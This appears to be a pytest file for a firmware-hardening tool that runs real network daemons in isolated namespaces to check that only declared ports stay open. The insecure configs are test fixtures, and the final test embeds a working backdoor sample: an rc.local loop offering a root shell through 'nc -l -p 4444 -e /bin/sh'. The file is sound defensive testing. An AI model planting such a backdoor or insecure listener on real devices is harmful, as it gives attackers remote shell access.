"""Real servers, each in a network of its own: an undeclared socket answers before hardening, after it only what is
declared does, and what the device itself calls."""

import os
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import hardened
import pytest

from firmward.harden.sockets import FOUR
from firmward.model.memory import executable

OUTSIDE = "192.0.2.7"
"""An address of the network's only interface, as others call it."""
ASKS = r"\x30\x26\2\1\1\4\3abc\xa0\x1c\2\4\0\0\0\1\2\1\0\2\1\0\x30\x0e\x30\x0c\6\x8\x2b\6\1\2\1\1\1\0\5\0"
"""SNMP: the description of the system, asked for with the community abc."""
SCRIPT = """\
ip link set lo up
ip address add {outside}/32 dev lo
{start} >{folder}/log 2>&1 &
server=$!
for i in $(seq 100); do ss -Hlntu | grep -q ':{waits} ' && break; sleep 0.05; done
for place in {places}; do
    case $place in
    */69) rm -f {folder}/got; (cd {folder} && timeout 1 busybox tftp -g -r page -l got ${{place%/*}}) 2>/dev/null
        [ -s {folder}/got ] && echo "$place" ;;
    */161) exec 3<>/dev/udp/$place; printf '{asks}' >&3
        [ -n "$(timeout 1 head -c 1 <&3)" ] 2>/dev/null && echo "$place"; exec 3>&- ;;
    *) timeout 2 bash -c ": </dev/tcp/$place" 2>/dev/null && echo "$place" ;;
    esac
done
kill -KILL $server
wait
"""


@dataclass(frozen=True)
class Server:
    """A `program` that is started by `start` with its `text` at `path`, of whose ports one is declared."""

    program: str
    start: str
    path: str
    text: str
    declared: int
    undeclared: int
    protocol: str = "tcp"
    test: str = ""
    stays: bool = True
    """What the device itself still reaches."""


LIGHTTPD = """\
server.document-root = "{folder}"
server.modules = ( "mod_openssl" )
server.port = 80
$SERVER["socket"] == ":443" {{
    ssl.engine = "enable"
    ssl.pemfile = "{folder}/pair.pem"
}}
"""
BLOCKS = """\
server.document-root = "{folder}"
server.port = 443
$SERVER["socket"] == "0.0.0.0:80" {{ }}
$SERVER["socket"] == "[::]:80" {{ }}
"""
NGINX = """\
pid {folder}/pid;
error_log stderr;
events {{ }}
http {{
    access_log off;
    server {{ listen 443; root {folder}; }}
    server {{ listen 80 default_server; listen 192.0.2.7:80; listen [::]:80; root {folder}; }}
}}
"""
MOSQUITTO = "allow_anonymous true\nuser root\nlistener 80\nmax_connections 5\nlistener 443\n"
DNSMASQ = "no-resolv\nno-hosts\nuser=root\npid-file=\nenable-tftp\ntftp-root={folder}\nport=443\n"
SSHD = "HostKey {folder}/host_key\nPort 443\nPort 80\nPidFile none\n"
SNMPD = "agentAddress udp:161,tcp:443\nrocommunity abc\n"

SERVERS = (
    Server("lighttpd", "{program} -D -f {file}", "etc/lighttpd/lighttpd.conf", LIGHTTPD, 443, 80, test="-tt -f {file}"),
    Server("lighttpd", "{program} -D -f {file}", "etc/lighttpd/lighttpd.conf", BLOCKS, 443, 80, test="-tt -f {file}"),
    Server(
        "nginx", "{program} -g 'daemon off;' -c {file}", "etc/nginx/nginx.conf", NGINX, 443, 80, test="-t -c {file}"
    ),
    Server("mosquitto", "{program} -c {file}", "etc/mosquitto/mosquitto.conf", MOSQUITTO, 443, 80),
    Server("dnsmasq", "{program} -k -C {file}", "etc/dnsmasq.conf", DNSMASQ, 443, 69, "udp", "--test -C {file}", False),
    Server("sshd", "{program} -D -f {file}", "etc/ssh/sshd_config", SSHD, 443, 80, test="-t -f {file}", stays=False),
    Server("snmpd", "{program} -f -C -c {file} -I -smux", "etc/snmp/snmpd.conf", SNMPD, 443, 161, "udp"),
)


def program(name: str) -> str:
    """Skips where it is not installed, or nothing can be shut off from the network."""
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if (
        found is None
        or os.geteuid() != 0
        or any(shutil.which(one) is None for one in ("unshare", "ip", "ss", "busybox"))
    ):
        pytest.skip(f"needs root and {name}, unshare, ip, ss, busybox")
    return found


def answering(server: Server, text: str, folder: Path) -> set[str]:
    """The places that answer while the server runs with these settings."""
    path = program(server.program)
    file = folder / server.path.rpartition("/")[2]
    file.write_text(text)
    if server.test:
        words = [path, *server.test.format(file=file).split()]
        done = subprocess.run(words, capture_output=True, text=True, timeout=20)
        assert done.returncode == 0, done.stdout + done.stderr
    places = [f"{host}/{port}" for host in (OUTSIDE, FOUR) for port in (server.declared, server.undeclared)]
    script = SCRIPT.format(
        outside=OUTSIDE,
        folder=folder,
        start=server.start.format(program=path, file=file),
        waits=server.declared,
        asks=ASKS,
        places=" ".join(places),
    )
    command = ["unshare", "-n", "-p", "-f", "--kill-child", "--mount-proc", "bash", "-c", script]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    return set(done.stdout.split())


@pytest.mark.parametrize("server", SERVERS, ids=lambda one: f"{one.program}-{one.undeclared}")
def test_only_what_is_declared_answers_others(server: Server, tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    (tmp_path / "page").write_text("page\n")
    (tmp_path / "page").chmod(0o644)
    _keys(server.program, tmp_path)
    text = server.text.format(folder=tmp_path)
    place = f"[[listen]]\nport = {server.declared}\nprotocol = "
    policy = f'{place}"tcp"\n' + (f'{place}"udp"\n' if server.program == "dnsmasq" else "")
    start = server.start.format(program=f"/usr/sbin/{server.program}", file=f"/{server.path}").replace("'", "")
    done = hardened.of_files(
        {"etc/inittab": f"::respawn:{start.replace(' -I -smux', '')}\n", server.path: text},
        policy,
        only=("undeclared-listener",),
    )
    assert not done.reasons()
    outside = {f"{OUTSIDE}/{port}" for port in (server.declared, server.undeclared)}
    assert answering(server, text, tmp_path) >= outside
    after = answering(server, done.draft.text(server.path) or "", tmp_path)
    assert after & outside == {f"{OUTSIDE}/{server.declared}"}
    assert (f"{FOUR}/{server.undeclared}" in after) is server.stays


def _keys(name: str, folder: Path) -> None:
    if name == "sshd":
        Path("/run/sshd").mkdir(exist_ok=True)
        words = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / "host_key")]
        subprocess.run(words, check=True, timeout=20)
    if name == "lighttpd":
        words = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
        words += ["-subj", "/CN=device", "-days", "2", "-keyout", str(folder / "key"), "-out", str(folder / "pair.pem")]
        subprocess.run(words, check=True, capture_output=True, timeout=20)
        with (folder / "pair.pem").open("a") as pair:
            pair.write((folder / "key").read_text())


DOOR = """\
#!/bin/sh
while :; do
    nc -l -p 4444 -e /bin/sh
done >/dev/null 2>&1 &
echo started
"""
KNOCK = """\
ip link set lo up
mkdir {folder}/bin && ln -s $(command -v busybox) {folder}/bin/nc
PATH={folder}/bin:$PATH sh {script}
sleep 0.3
echo 'echo in by $((4000 + 444))' | timeout 2 busybox nc -w 1 127.0.0.1 4444
echo "left: $(busybox pgrep -f {script} | wc -l)"
"""


def test_a_shell_that_a_loop_offers_again_and_again_is_offered_no_more(tmp_path: Path) -> None:
    program("busybox")
    files = {"etc/inittab": "::sysinit:/etc/rc.local\n", "etc/rc.local": executable(DOOR)}
    done = hardened.of_files(files, "[[listen]]\nport = 22\n", only=("backdoor-listener", "undeclared-listener"))
    assert not done.reasons()
    said = []
    for name, text in (("before", DOOR), ("after", done.draft.text("etc/rc.local") or "")):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "rc.local").write_text(text)
        script = KNOCK.format(folder=folder, script=folder / "rc.local")
        command = ["unshare", "-n", "-p", "-f", "--kill-child", "--mount-proc", "bash", "-c", script]
        said.append(subprocess.run(command, capture_output=True, text=True, timeout=30).stdout.split("\n"))
    before, after = said
    assert "in by 4444" in before
    assert "in by 4444" not in after
    assert {"started", "left: 0"} <= set(after)
